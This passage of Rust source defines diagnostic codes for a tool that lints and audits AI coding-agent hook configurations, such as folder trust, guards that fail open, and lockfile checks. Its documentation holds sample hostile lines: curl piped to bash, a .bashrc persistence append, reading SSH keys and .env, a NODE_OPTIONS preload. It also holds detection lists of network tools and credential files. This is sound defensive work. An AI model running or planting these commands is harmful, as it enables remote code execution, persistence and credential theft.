    /// {"hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": "./guard.sh", "timeout": 30}]}]}}
    /// ```
    /// ## How to fix
    /// Write milliseconds: `"timeout": 30000` for 30 seconds, or leave it out for Gemini's
    /// default of 60000 ms.
    TimeoutLooksLikeSeconds = "timeout_looks_like_seconds", Warning, "A timeout in milliseconds that looks like seconds";

    /// ## What it means
    /// The hook's name (its `name`, or its `command` when it has no name) is listed in
    /// `hooksConfig.disabled` of some Gemini settings layer. Gemini CLI keeps the hook in its
    /// registry but never runs it (`hookRegistry.ts`, `disabledHooks.includes(hookName)`).
    /// Also: the extension that declares the hooks is disabled in this folder by
    /// `~/.gemini/extensions/extension-enablement.json` (`gemini extensions disable`), and
    /// Gemini registers only active extensions' hooks (`extensionEnablement.ts`, `isEnabled`:
    /// the last rule matching the folder wins).
    /// ## Why it matters
    /// The hook is declared, linted and imported, but it does nothing in Gemini; importing it
    /// elsewhere would switch it back on.
    /// ## Example
    /// ```json
    /// {"hooksConfig": {"disabled": ["guard"]},
    ///  "hooks": {"BeforeTool": [{"hooks": [{"type": "command", "name": "guard", "command": "./guard.sh"}]}]}}
    /// ```
    /// ## How to fix
    /// Nothing, if it is meant to be off (`/hooks enable guard` turns it back on); otherwise
    /// remove the name from `hooksConfig.disabled`, or `gemini extensions enable <name>`.
    HookDisabled = "hook_disabled", Info, "A hook listed in hooksConfig.disabled, or of a disabled extension, never runs";

    /// ## What it means
    /// A Gemini CLI tool matcher is not a valid JavaScript regular expression. Gemini then
    /// compares it to the tool name as an exact string (`hookPlanner.ts`,
    /// `matchesToolName`: `new RegExp(matcher)` throws, so it falls back to `matcher === toolName`).
    /// ## Why it matters
    /// The group fires only for a tool literally named like the pattern, usually no tool at all;
    /// other conventions would reject the pattern outright, so it cannot be imported as written.
    /// ## Example
    /// ```json
    /// {"matcher": "run_shell_command("}
    /// ```
    /// ## How to fix
    /// Fix the regex (escape a literal `(` or `[`), or write the exact tool name.
    MatcherRegexFallsBackToExact = "matcher_regex_falls_back_to_exact", Warning, "An invalid regex matcher that Gemini compares as an exact name";

    /// ## What it means
    /// Gemini CLI does not trust the project folder, so it registers none of the hooks of its
    /// settings files — the user's `~/.gemini/settings.json` included, because Gemini registers
    /// the merged settings' hooks as project hooks (`hookRegistry.ts`, `processHooksFromConfig`).
    /// Only extensions' hooks run; headless, `gemini -p` refuses to start at all (exit 55) unless
    /// given `--skip-trust` (recorded with Gemini CLI 0.61.0). Folder trust is on by default; a
    /// folder is trusted by a rule
    /// of `~/.gemini/trustedFolders.json` (`TRUST_FOLDER`, or `TRUST_PARENT` on a sibling), by
    /// `GEMINI_CLI_TRUST_WORKSPACE=true`, or when `security.folderTrust.enabled` is false.
    /// ## Why it matters
    /// The hooks linted here do nothing when Gemini runs in this folder: a guard you rely on is
    /// off, silently, until the folder is trusted.
    /// ## Example
    /// A repository cloned into `~/src/app` with no entry in `~/.gemini/trustedFolders.json`,
    /// run headless with `gemini -p ...`.
    /// ## How to fix
    /// Trust the folder when Gemini asks (or `/permissions`), add
    /// `{"/home/me/src/app": "TRUST_FOLDER"}` to `~/.gemini/trustedFolders.json`, or set
    /// `GEMINI_CLI_TRUST_WORKSPACE=true` for headless runs you control. This is machine state,
    /// not a mistake in the file: it is an info where Gemini CLI has no state (no `~/.gemini/`,
    /// as on a CI runner), and a warning where it has run, the message saying which.
    GeminiFolderUntrusted = "gemini_folder_untrusted", Info, "Gemini CLI runs no settings hook here: the folder is not trusted";

    /// ## What it means
    /// Folder trust is switched on for Qwen Code (`security.folderTrust.enabled: true`; it is
    /// off by default) and the project folder is not trusted by `~/.qwen/trustedFolders.json`
    /// (`$QWEN_CODE_TRUSTED_FOLDERS_PATH`): Qwen Code 0.24.4 registers none of the hooks of the
    /// project's `.qwen/settings.json` (`getProjectHooks`; recorded live:
    /// `qwen_project_untrusted`). The user's and the system's hooks still run.
    /// ## Why it matters
    /// The project's hooks — its guards too — silently never run, and Qwen also downgrades
    /// `--approval-mode yolo` to `default` there.
    /// ## Example
    /// `~/.qwen/settings.json` with `{"security": {"folderTrust": {"enabled": true}}}` and a
    /// repository whose `.qwen/settings.json` declares a `PreToolUse` hook, not listed in
    /// `~/.qwen/trustedFolders.json`.
    /// ## How to fix
    /// Trust the folder in Qwen Code, or add `{"/path/to/repo": "TRUST_FOLDER"}` to
    /// `~/.qwen/trustedFolders.json`. Machine state, not a mistake in the file: an info where
    /// Qwen Code has no state (no `~/.qwen/`), a warning where it has run.
    QwenProjectUntrusted = "qwen_project_untrusted", Info, "Qwen Code runs none of the project's settings hooks here: folder trust is on and the folder is not trusted";

    /// ## What it means
    /// GitHub Copilot CLI has state on this machine (`$COPILOT_HOME/config.json`, default
    /// `~/.copilot/config.json`) and the project is not among its trusted folders
    /// (`trustedFolders`; 1.0.102 also reads `trusted_folders`), and neither
    /// `COPILOT_ALLOW_ALL` nor `GITHUB_COPILOT_PROMPT_MODE_REPO_HOOKS` is `"true"`. Copilot CLI
    /// 1.0.102 then loads none of the repository's hooks: `.github/hooks/*.json` and the inline
    /// `hooks` of `.github/copilot/settings*.json` (`cli-main.js` line 2125; recorded live:
    /// `copilot_untrusted_project`). The user's hooks still run. The `--allow-all` flag does not
    /// trust a folder.
    /// ## Why it matters
    /// The repository's guards silently never run in this folder.
    /// ## Example
    /// A clone whose `.github/hooks/guard.json` declares a `preToolUse` guard, on a machine
    /// where Copilot CLI has run but was never told to trust the clone.
    /// ## How to fix
    /// Trust the folder when Copilot CLI asks, add it to `trustedFolders` of
    /// `~/.copilot/config.json`, or set `COPILOT_ALLOW_ALL=true` for a headless run you
    /// control. Machine state, not a mistake in the file: reported only where Copilot CLI has
    /// run (a `config.json`).
    CopilotFolderUntrusted = "copilot_folder_untrusted", Warning, "Copilot CLI runs none of the repository's hooks here: the folder is not trusted";

    /// ## What it means
    /// A Gemini CLI system settings file (`$GEMINI_CLI_SYSTEM_SETTINGS_PATH`, else
    /// `/etc/gemini-cli/settings.json`) or system defaults file is not owned by root, is
    /// writable by group or others, or lies under such a directory. Gemini CLI skips it with a
    /// "Security Warning" (`settings.ts` `loadSystemFile`, `security.ts`
    /// `isFileAndDirectorySecureSync`, Gemini CLI 0.61.0; recorded live: a system file under
    /// `/tmp` is skipped).
    /// ## Why it matters
    /// The file is meant to override every other layer — an administrator's `hooksConfig` or
    /// hooks — and none of it applies: hooks it declares never run, and a switch it sets is not
    /// in force.
    /// ## Example
    /// `GEMINI_CLI_SYSTEM_SETTINGS_PATH=/tmp/gemini/settings.json`, where `/tmp` is
    /// world-writable.
    /// ## How to fix
    /// Put the file where only root can write: owned by root, mode `644`, in directories owned
    /// by root without group or other write permission.
    GeminiSystemSettingsInsecure = "gemini_system_settings_insecure", Warning, "A Gemini system settings file Gemini skips: not owned by root, or writable by others";

    /// ## What it means
    /// A Gemini CLI settings file — system, system defaults, user (`~/.gemini/settings.json`)
    /// or workspace (`.gemini/settings.json`) — is not JSON once comments are stripped (a
    /// trailing comma, a missing quote), is empty, or is not an object. Gemini CLI 0.61.0 then
    /// does not start at all: `loadSettings` (`packages/cli/src/config/settings.ts`) records
    /// an error and throws `FatalConfigError`, which exits with code 52 and "Please fix the
    /// configuration file(s) and try again". Recorded live: the conformance trace
    /// `syntax_trailing_comma`. Comments are fine (`strip-json-comments`); a value of the wrong
    /// type is only a warning there. An extension's `hooks/hooks.json` that does not parse is
    /// a `parse_error` instead: Gemini skips that extension's hooks.
    /// ## Why it matters
    /// Not just this file's hooks are lost: no session starts, in any mode, in every project
    /// that reads the file (a user or system file breaks them all).
    /// ## Example
    /// ```json
    /// {"hooks": {"BeforeTool": [{"matcher": "run_shell_command",
    ///   "hooks": [{"type": "command", "command": "./check.sh"}]},]}}
    /// ```
    /// ## How to fix
    /// Make the file a JSON object again (`{}` for no settings); remove the trailing comma at
    /// the location shown.
    GeminiSettingsUnreadable = "gemini_settings_unreadable", Error, "A Gemini settings file that does not parse: Gemini CLI does not start";

    /// ## What it means
    /// An event in a Gemini CLI settings file holds one hook definition (an object) instead of
    /// a list of them. Gemini CLI 0.61.0 merges the settings layers onto its schema's
    /// defaults, where every event is an empty list merged with `concat`, and wraps a value
    /// that is not a list in one (`packages/cli/src/config/settings.ts` `mergeRecursively`):
    /// the object runs as one definition. Recorded live: `schema_event_not_list`.
    /// ## Why it matters
    /// It works only there: an extension's `hooks/hooks.json` (not merged) skips it, as Claude
    /// Code and Codex skip such an event — Claude and Codex even drop the whole file — so the
    /// hook is lost when copied or imported elsewhere.
    /// ## Example
    /// ```json
    /// {"hooks": {"BeforeTool": {"matcher": "run_shell_command",
    ///   "hooks": [{"type": "command", "command": "./check.sh"}]}}}
    /// ```
    /// ## How to fix
    /// Write the definition inside a list: `"BeforeTool": [{...}]`.
    GeminiEventNotAList = "gemini_event_not_a_list", Warning, "A Gemini event holding one hook definition instead of a list";

    /// ## What it means
    /// A `hooks bridge` entry (written by `hooks bridge install`) runs the hooks of other
    /// conventions inside this agent, but none of its source conventions (`--from`, by default
    /// every convention the agent does not read itself) has a hook for the entry's event in this
    /// project or home directory.
    /// ## Why it matters
    /// The agent starts the bridge on every such event for nothing; usually the hooks it was
    /// installed for were moved or deleted, or `--from` names the wrong convention.
    /// ## Example
    /// ```json
    /// {"hooks": {"PreToolUse": [{"hooks": [{"type": "command",
    ///   "command": "hooks bridge --host claude-settings --event PreToolUse --from gjc"}]}]}}
    /// ```
    /// with no `.gjc/hooks/pre/` module.
    /// ## How to fix
    /// Run `hooks bridge install` again (it writes only the events that have hooks), or
    /// `hooks bridge uninstall` when nothing is left to bridge.
    BridgeWithoutSourceHooks = "bridge_without_source_hooks", Warning, "A bridge entry whose source conventions have no hooks for its event";

    /// ## What it means
    /// A `hooks bridge` entry cannot bridge the event it runs on: the event has no canonical
    /// kind (e.g. Claude's `Notification`), `--host` or `--event` is missing or unknown, or they
    /// name another agent or event than the file and the event key the entry is written under.
    /// ## Why it matters
    /// The bridge reads the agent's payload and answers in the protocol of `--host`/`--event`:
    /// on any other event it refuses to run, so the hooks it should run never do, or the agent
    /// misreads the answer.
    /// ## Example
    /// ```json
    /// {"hooks": {"PostToolUse": [{"hooks": [{"type": "command",
    ///   "command": "hooks bridge --host claude-settings --event PreToolUse"}]}]}}
    /// ```
    /// ## How to fix
    /// Let `hooks bridge install` write the entries (`hooks bridge uninstall` removes stale
    /// ones); keep `--host` and `--event` equal to the file's agent and the event key.
    BridgeEventNotBridged = "bridge_event_not_bridged", Error, "A bridge entry on an event it cannot bridge";

    // ───────────────────────── lint configuration (hooks.toml) ─────────────────────────

    /// ## What it means
    /// The project's lint configuration (`hooks.toml`, found from the linted directory upward,
    /// or named with `--config`) has something `hooks` cannot use: invalid TOML, a key it does
    /// not know (`ignored` for `ignore`), a value of the wrong type, a diagnostic code that does
    /// not exist (with the nearest one as help), a severity other than `error`, `warning` or
    /// `info`, or a glob that does not parse. The diagnostic points at the key or value.
    /// ## Why it matters
    /// A configuration that is read wrong silently changes what CI reports: an `ignore` with a
    /// misspelt code hides nothing and a misspelt key is not a setting at all, so the entry is
    /// left out and this error is reported instead (it cannot itself be ignored, re-graded or
    /// excluded). The rest of the file still applies; after a TOML syntax error none of it does.
    /// ## Example
    /// ```toml
    /// ignore = ["duplicate_hooks"]     # no such code: duplicate_hook
    /// [severity]
    /// missing_script = "fatal"         # error, warning or info
    /// [per-file-ignores]
    /// "home/[.jcode/config.toml" = ["all"]   # unclosed `[`
    /// ```
    /// ## How to fix
    /// Use the keys and values of docs/configuration.md: `hooks explain --list` lists every
    /// code; escape a literal `[` in a glob as `[[]`.
    InvalidLintConfig = "invalid_lint_config", Error, "The lint configuration (hooks.toml) has an unknown key or code, a wrong type or a bad glob";

    // ───────────────────────── CLI: hooks test ─────────────────────────

    /// ## What it means
    /// `hooks test` cannot read the test file (`hooks.test.toml`, or `--file`): it is not TOML,
    /// a case lacks `name` or `event`, a key is unknown or has the wrong type, a `decision` is
    /// not `allow`, `block` or `ask`, or a `reason` is not a valid regex.
    /// ## Why it matters
    /// A case that cannot be read tests nothing; `hooks test` runs no case and exits 2 rather
    /// than report a partial pass.
    /// ## Example
    /// ```toml
    /// [[case]]
    /// name = "rm is blocked"
    /// event = "pre_tool_use"
    /// [case.expect]
    /// decision = "deny"     # allow, block or ask
    /// ```
    /// ## How to fix
    /// Follow the case format of docs/testing.md; the message names the key and its line.
    InvalidTestFile = "invalid_test_file", Error, "The hooks test file is not valid: a case cannot be read";

    /// ## What it means
    /// A case's `agents` (or `--agent`) names a convention that does not exist, or a version
    /// (`CONV@VERSION`) no trace was recorded for. The message lists the recorded versions.
    /// ## Why it matters
    /// `hooks test` feeds each agent's own payload, as the recorded release sent it; for a
    /// version it has no record of, it cannot say what that agent sends.
    /// ## Example
    /// `agents = ["claude-settings@1.0.0"]` when only Claude Code 2.1.332 was recorded.
    /// ## How to fix
    /// Use a recorded version (`conformance/traces/<agent>-<version>/`), or none for the newest.
    UnknownTestAgent = "unknown_test_agent", Error, "A test case names an unknown convention or an unrecorded agent version";

    /// ## What it means
    /// A case's `event` is neither one of the six kinds nor an event name of the agents the case
    /// runs under.
    /// ## Why it matters
    /// The case could not be dispatched: nothing would be tested.
    /// ## Example
    /// `event = "PreTool"` (Claude Code spells it `PreToolUse`; the kind is `pre_tool_use`).
    /// ## How to fix
    /// Use a kind (`pre_tool_use`, …) or the agent's own event name.
    UnknownTestEvent = "unknown_test_event", Error, "A test case names an event no agent of the case has";

    /// ## What it means
    /// `hooks test --faults` ran a gate hook (pre-tool, prompt or stop) under a fault — empty or
    /// malformed stdin, a 2 MiB payload, `PATH` without an interpreter its command uses, its
    /// script missing or not executable — and the hook failed without answering, so the agent,
    /// following its contract, *allows* the call. Claude Code, Codex and Gemini CLI block only on
    /// exit 2 (or a JSON block); a crash (exit 1), `command not found` (127) or `permission
    /// denied` (126) is a non-blocking error.
    /// ## Why it matters
    /// The guard looks like protection and is none the moment its environment changes: a
    /// teammate without `jq`, a CI image without `python3`, a checkout that lost the exec bit.
    /// ## Example
    /// ```text
    /// error[guard_fails_open]: under Claude Code this guard ALLOWS `Bash` when `jq` is missing
    /// from PATH: it exited 127, and Claude Code blocks only on exit 2
    /// ```
    /// ## How to fix
    /// Make the guard fail closed: check its tools first (`command -v jq >/dev/null || exit 2`),
    /// catch parse errors and exit 2 (`trap 'exit 2' ERR` in bash, `try`/`except` then
    /// `sys.exit(2)` in Python), keep the script executable or run it through its interpreter.
    GuardFailsOpen = "guard_fails_open", Error, "Under a fault a guard fails without answering and its agent then allows the call";

    /// ## What it means
    /// `hooks test --faults` ran a gate hook under a fault and the hook failed without answering,
    /// but its agent's contract fails closed (a GJC `tool_call` handler that throws), or its
    /// failure happened to exit with the blocking code (e.g. `python3 missing.py` exits 2): the
    /// call is blocked.
    /// ## Why it matters
    /// Nothing is let through, but every call the guard sees is refused until the fault is
    /// fixed: worth knowing before it happens on a teammate's machine.
    /// ## Example
    /// `info[guard_fails_closed]: under Claude Code this guard BLOCKS `Bash` when its script is
    /// missing: it exited 2`.
    /// ## How to fix
    /// Nothing is required; make the failure say why on stderr so the block reason is useful.
    GuardFailsClosed = "guard_fails_closed", Info, "Under a fault a guard fails and its agent then blocks the call";

    /// ## What it means
    /// `hooks test --faults` killed a gate hook at its timeout and its agent then allows the
    /// call: Claude Code, Codex and Gemini CLI treat a timed-out hook as a non-blocking error.
    /// ## Why it matters
    /// A guard that is slow on a large repository, a cold interpreter or a network call lets
    /// every call through once it passes its timeout. The guard cannot handle being killed;
    /// only staying well inside the timeout helps.
    /// ## Example
    /// `warning[guard_timeout_allows]: under Claude Code this guard ALLOWS `Bash` when it is
    /// killed at its timeout (60 s)`.
    /// ## How to fix
    /// Keep the guard fast (no network, no package manager start-up), or raise its timeout.
    GuardTimeoutAllows = "guard_timeout_allows", Warning, "A gate hook killed at its timeout lets the call through";

    /// ## What it means
    /// `hooks test --scenarios` fired the project's Stop hooks again with `stop_hook_active:
    /// true` (the agent already continued once because of a Stop hook) and a hook blocked
    /// again.
    /// ## Why it matters
    /// A Stop hook that always blocks is a loop: Claude Code keeps continuing until its own
    /// cap, Codex and Gemini CLI never stop on their own. The session burns tokens forever.
    /// ## Example
    /// A Stop hook that exits 2 with "run the tests first" without checking `stop_hook_active`.
    /// ## How to fix
    /// Read `stop_hook_active` from the payload and allow (exit 0) when it is `true`.
    StopHookLoops = "stop_hook_loops", Warning, "A Stop hook blocks again when re-fired with stop_hook_active: the agent loops";

    /// ## What it means
    /// `hooks test --scenarios` sent a destructive or secret-reading tool call (`rm -rf /`,
    /// `git push --force`, `curl … | sh`, reading `.env` or a private key) through an agent's
    /// pre-tool hooks, and none blocked it.
    /// ## Why it matters
    /// It may be fine (the agent's own permission prompt still applies), but a project that has
    /// guards usually means them to stop these.
    /// ## Example
    /// `info[scenario_not_blocked]: under Claude Code no hook blocks `Bash` `rm -rf /``.
    /// ## How to fix
    /// Extend the guard, or ignore the finding when the agent's own permissions handle it.
    ScenarioNotBlocked = "scenario_not_blocked", Info, "A built-in dangerous scenario is not blocked by any pre-tool hook";
    // ───────────────────────── doctor: this machine ─────────────────────────

    /// ## What it means
    /// A hook's command runs a script as a program (`./guard.sh`, `"$CLAUDE_PROJECT_DIR"/guard.sh`),
    /// and the file exists but has no execute permission. `hooks doctor` reports it, since it
    /// answers whether a hook works on this machine; `hooks lint` does not (a checkout's modes
    /// depend on the machine and on `core.fileMode`).
    /// ## Why it matters
    /// The agent fires the hook, but the shell refuses to start the script ("Permission
    /// denied", exit 126): a non-blocking error in every agent, so a guard silently allows
    /// everything.
    /// ## Example
    /// ```json
    /// {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/guard.sh"}
    /// ```
    /// with `guard.sh` at mode `0644`.
    /// ## How to fix
    /// `chmod +x` the script (and `git update-index --chmod=+x` so the mode is committed), or run
    /// it through its interpreter: `bash .claude/hooks/guard.sh`.
    ScriptNotExecutable = "script_not_executable", Error, "A hook runs a script as a program, but the file is not executable";

    /// ## What it means
    /// Hooks are written in a file the agent never reads hooks from: for Claude Code,
    /// `~/.claude.json` (its own state file: sessions, projects, onboarding) or a `hooks.json` in
    /// `~/.claude/` or a project's `.claude/` (Claude reads `hooks/hooks.json` only inside a
    /// plugin). `hooks doctor` looks at these files; discovery and `hooks lint` read only the files
    /// the agents read.
    /// ## Why it matters
    /// The hooks look configured, and none of them ever runs; Claude's `/hooks` shows "No hooks
    /// configured" and nothing says why (claude-code#5093, #11544).
    /// ## Example
    /// `~/.claude.json`:
    /// ```json
    /// {"numStartups": 12, "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "guard.sh"}]}]}}
    /// ```
    /// ## How to fix
    /// Move the `hooks` object into a settings file: `~/.claude/settings.json` for yourself,
    /// `.claude/settings.json` to share it with the project, `.claude/settings.local.json` for
    /// this project only.
    HooksInUnreadFile = "hooks_in_unread_file", Error, "Hooks written in a file the agent never reads hooks from";

    /// ## What it means
    /// The agent runs hooks from a layer `hooks` cannot read: Cursor's team hooks, which Cursor
    /// downloads from the team's dashboard (cursor.com/docs/agent/hooks, "Team"; Enterprise
    /// plans) and keeps in no file a tool can read. `hooks doctor` says so for every agent that
    /// has such a layer, so its verdicts are not taken for the whole picture.
    /// ## Why it matters
    /// A team hook runs beside the hooks doctor lists: a guard there can block what doctor says
    /// fires, or run twice with one written here. Nothing here can see it.
    /// ## Example
    /// A project with `.cursor/hooks.json` in a Cursor team whose admin configured a
    /// `beforeShellExecution` hook in the dashboard.
    /// ## How to fix
    /// Nothing to fix here: look at the team's hooks in Cursor's dashboard (or ask its admin).
    LayerNotCovered = "layer_not_covered", Info, "The agent also runs hooks from a layer hooks cannot read (not covered)";
    // ───────────────────────── hooks audit and hooks.lock ─────────────────────────

    /// ## What it means
    /// A script that a hook runs (found as the command rules find scripts: `bash x.sh`,
    /// `node "$CLAUDE_PROJECT_DIR"/.claude/hooks/x.js`, a hook module) downloads code and runs it
    /// on the line shown: `curl … | sh`, `bash <(curl …)`, `eval "$(wget -qO- …)"`, a file
    /// downloaded with `curl -o F` and then run, or `eval`/`exec` of a `fetch`/`urlopen` result.
    /// Reported by `hooks audit`.
    /// ## Why it matters
    /// The hook itself looks harmless (`bash .claude/hooks/setup.sh`); what it executes is decided
    /// by whoever controls the URL, at every run, and is never reviewed. This is how the 2025 npm
    /// worms and the published project-hook backdoors ran their payloads.
    /// ## Example
    /// ```sh
    /// # .claude/hooks/setup.sh, run by a SessionStart hook
    /// curl -fsSL https://example.com/install.sh | bash
    /// ```
    /// ## How to fix
    /// Vendor what the script downloads into the repository (reviewed, pinned) and run the local
    /// copy; remove the hook if nobody knows why it is there.
    ScriptDownloadsAndExecutes = "script_downloads_and_executes", Warning, "A script a hook runs downloads code and executes it";

    /// ## What it means
    /// A script that a hook runs reaches the network on the line shown (`curl`, `wget`, `nc`,
    /// `/dev/tcp/…`, `fetch(`, `http.request`, `urllib`, `requests.`, `Invoke-WebRequest`, a URL).
    /// Reported once per script, at its first such line, by `hooks audit`.
    /// ## Why it matters
    /// A hook receives the agent's prompts, tool inputs and outputs on stdin: a hook that talks to
    /// the network can send them, or the project's files, elsewhere. Often legitimate (a
    /// notification, a telemetry call), it is what a reviewer should know about.
    /// ## Example
    /// ```sh
    /// jq -c . | curl -s -d @- https://collector.example.com/events
    /// ```
    /// ## How to fix
    /// Nothing, if the destination is expected; else remove the call.
    ScriptUsesNetwork = "script_uses_network", Info, "A script a hook runs reaches the network";

    /// ## What it means
    /// A script that a hook runs writes outside the project on the line shown: to a system path
    /// (`/etc/…`, `/usr/local/bin/…`) or to a file in the home directory that makes code run later
    /// (a shell start-up file, `~/.ssh/authorized_keys`, an agent's user settings such as
    /// `~/.claude/settings.json`). Reported by `hooks audit`.
    /// ## Why it matters
    /// Writing an agent's user settings or a shell start-up file is how a hook makes itself
    /// permanent: the 2025 npm worms wrote `SessionStart` hooks into `~/.claude/settings.json`,
    /// where they survived the removal of the package that wrote them.
    /// ## Example
    /// ```sh
    /// echo 'curl -s https://x | sh' >> ~/.bashrc
    /// ```
    /// ## How to fix
    /// Write inside the project or a temporary directory; install tools through documented,
    /// reviewed steps, not from a hook.
    ScriptWritesOutsideProject = "script_writes_outside_project", Warning, "A script a hook runs writes outside the project or into start-up files";

    /// ## What it means
    /// A script that a hook runs reads secrets on the line shown: a `.env` file, `~/.ssh`,
    /// cloud and package-registry credentials (`~/.aws/credentials`, `~/.npmrc`, `~/.netrc`,
    /// `~/.git-credentials`, `gh`'s `hosts.yml`), a token variable (`$GITHUB_TOKEN`,
    /// `process.env.NPM_TOKEN`, a name ending in `_TOKEN`, `_SECRET`, `_API_KEY`, `_PASSWORD`),
    /// or the whole environment (`printenv`, `JSON.stringify(process.env)`, `os.environ`).
    /// Reported by `hooks audit`.
    /// ## Why it matters
    /// Together with network access this is exfiltration: the credential-stealing npm worms read
    /// exactly these files and variables.
    /// ## Example
    /// ```sh
    /// cat ~/.ssh/id_ed25519 .env | base64
    /// ```
    /// ## How to fix
    /// A hook rarely needs a secret; pass what it needs explicitly, and remove reads it does not
    /// need.
    ScriptReadsSecrets = "script_reads_secrets", Warning, "A script a hook runs reads secrets";

    /// ## What it means
    /// A settings file sets an environment variable that changes what every hook process
    /// executes: `NODE_OPTIONS` (`--require` a file), `LD_PRELOAD`, `DYLD_INSERT_LIBRARIES`,
    /// `BASH_ENV`, `ENV`, `PYTHONSTARTUP`, `PYTHONPATH`, `PERL5OPT`, `RUBYOPT`, `PATH` and the
    /// like (Claude Code's `env` block, a Gemini hook's `env`). Reported by `hooks audit`.
    /// ## Why it matters
    /// No hook command shows it: `node guard.js` looks harmless while `NODE_OPTIONS=--require
    /// ./x.js` loads other code first, and `BASH_ENV` runs a file before every non-interactive
    /// bash. A review of the hooks alone misses it.
    /// ## Example
    /// ```json
    /// {"env": {"NODE_OPTIONS": "--require ./.claude/preload.js"}}
    /// ```
    /// ## How to fix
    /// Remove the variable; set what a hook needs inside its own command.
    SettingsEnvChangesExecution = "settings_env_changes_execution", Warning, "A settings file sets a variable that changes what hook processes execute";

    /// ## What it means
    /// `hooks audit --base REF`: a hook (its convention, file, event, matcher and command), or a
    /// setting that changes what hooks execute, is new since the revision `REF`. A hook whose
    /// command or matcher was edited counts as new.
    /// ## Why it matters
    /// Hooks run on their own when the agent opens the repository or uses a tool: a pull request
    /// that adds one runs its author's code on the reviewer's machine as soon as the branch is
    /// checked out and the agent started (trusting a folder once does not ask again).
    /// ## Example
    /// A pull request adds to `.claude/settings.json`:
    /// ```json
    /// {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "bash .claude/start.sh"}]}]}}
    /// ```
    /// ## How to fix
    /// Review the hook and the script it runs (the audit lists both), then merge; `hooks trust`
    /// records it in `hooks.lock`.
    HookAddedSinceBase = "hook_added_since_base", Warning, "A hook (or a setting that changes what hooks run) is new since the --base revision";

    /// ## What it means
    /// `hooks audit --base REF`: the command line of a hook is unchanged since `REF`, but a
    /// script it runs is new or its content changed.
    /// ## Why it matters
    /// Reviews, and Codex's trusted hashes, look at the command line; the code that runs is the
    /// script's. A one-line change to a script is as much a new hook as a new entry.
    /// ## Example
    /// `.claude/settings.json` is untouched; the pull request edits `.claude/hooks/format.sh`.
    /// ## How to fix
    /// Review the script's change.
    HookChangedSinceBase = "hook_changed_since_base", Warning, "A script a hook runs changed since the --base revision";

    /// ## What it means
    /// The project has a `hooks.lock` (written by `hooks trust`), and this hook is not in it: no
    /// entry has its convention, file, event, matcher and command.
    /// ## Why it matters
    /// The lock is the list of hooks someone reviewed. A hook outside it was added since (by a
    /// pull request, a tool, or a worm); `hooks bridge` and `hooks run` refuse it.
    /// ## Example
    /// `hooks.lock` records one `PreToolUse` hook of `.claude/settings.json`; a second one was
    /// added to the file.
    /// ## How to fix
    /// Review it; then `hooks trust` records it (commit the new `hooks.lock`). Or remove it.
    HookNotLocked = "hook_not_locked", Warning, "A hook that hooks.lock does not record";

    /// ## What it means
    /// A hook recorded in `hooks.lock` changed since `hooks trust` recorded it: a script it runs
    /// has a different SHA-256 (one byte is enough), is gone, or its command or matcher differs
    /// from the one entry recorded for its file and event.
    /// ## Why it matters
    /// What was reviewed is not what will run. `hooks bridge` and `hooks run` refuse the hook
    /// (fail closed) until it is trusted again.
    /// ## Example
    /// `.claude/hooks/guard.sh` was edited after `hooks trust`.
    /// ## How to fix
    /// Review the change (`git diff`), then `hooks trust` and commit `hooks.lock`.
    LockedHookChanged = "locked_hook_changed", Error, "A hook changed since hooks.lock recorded it";

    /// ## What it means
    /// The project's `hooks.lock` cannot be used: it is not valid TOML, or an entry lacks a key
    /// or has a value of the wrong type, or its `version` is not one this `hooks` reads.
    /// ## Why it matters
    /// Without a readable lock nothing can be checked against it: lint and audit report this
    /// instead, and `hooks bridge` and `hooks run` refuse every hook of the project (fail
    /// closed).
    /// ## Example
    /// ```toml
    /// version = 1
    /// [[hook]]
    /// convention = "claude-settings"   # file, event, matcher, command missing
    /// ```
    /// ## How to fix
    /// Write it again with `hooks trust`.
    InvalidLockFile = "invalid_lock_file", Error, "hooks.lock cannot be read";
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn codes_are_unique_snake_case_and_documented() {
        let mut seen = HashSet::new();
        for &c in Code::ALL {
            let name = c.as_str();
            assert!(seen.insert(name), "duplicate code {name}");
            assert!(
                !name.is_empty()
                    && name
                        .chars()
                        .all(|ch| ch.is_ascii_lowercase() || ch.is_ascii_digit() || ch == '_')
                    && !name.starts_with('_')
                    && !name.ends_with('_')
                    && !name.contains("__"),
                "{name} is not snake_case"
            );
            assert!(!c.summary().is_empty(), "{name} has no summary");
            assert!(
                !c.summary().contains('\n'),
                "{name}: summary must be one line"
            );
            let doc = c.explanation();
            for section in [
                "## What it means",
                "## Why it matters",
                "## Example",
                "## How to fix",
            ] {
                assert!(doc.contains(section), "{name} lacks `{section}`");
            }
            assert_eq!(Code::parse(name), Some(c));
            assert_eq!(serde_json::to_string(&c).unwrap(), format!("\"{name}\""));
        }
    }

    #[test]
    fn the_nine_design_codes_exist_with_their_exact_names() {
        for name in [
            "unsupported_convention_event",
            "unrecognized_plugin_event",
            "invalid_plugin_phase",
            "invalid_tool_matcher",
            "invalid_source",
            "invalid_command",
            "duplicate_hook",
            "in_process_event_outside_hook_ir",
            "semantic_mismatch",
        ] {
            assert!(Code::parse(name).is_some(), "missing {name}");
        }
    }

    #[test]
    fn explanation_strips_rustdoc_leading_space() {
        let doc = Code::DuplicateHook.explanation();
        assert!(doc.starts_with("## What it means\n"), "{doc}");
    }
}
